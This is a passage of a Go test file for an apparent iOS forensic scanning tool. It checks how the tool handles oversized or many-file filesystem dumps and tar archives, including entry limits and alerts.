			input: tinyDump,
			args:  []string{"--limit", "entries=5000"},
			want:  hostileExpect{affected: map[string][]string{"filesystem": {"stopped at a limit"}}, minOK: 30},
			check: func(t *testing.T, r hostileResult) {
				assertProblem(t, r.info, "limit_reached", "5000")
				assertAlert(t, r, "limit/acquisition")
			},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			input := tc.input(t)
			args := append(append([]string{"ios", "check-fs", "-q", "-i", iocs}, tc.args...), input)
			r := checkHostile(t, filepath.Dir(input), args...)
			assertModules(t, r.info, base, tc.want)
			if tc.check != nil {
				tc.check(t, r)
			}
		})
	}
}

// writeTar writes dir as a tar (gzip-compressed with gz) named name in a new folder,
// followed by the extra entries, and returns its path.
func writeTar(t *testing.T, dir, name string, gz bool, extra ...fixture.TarEntry) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := fixture.TarDirectoryWith(dir, f, gz, extra...); err != nil {
		t.Fatal(err)
	}
	return p
}

// hostileTinyFiles is the number of tiny files of the many-files case in a folder, and
// hostileMillion that of the case in a .tar.gz (12 MB, quick to write).
const (
	hostileTinyFiles = 20_000
	hostileMillion   = 1_000_000
)
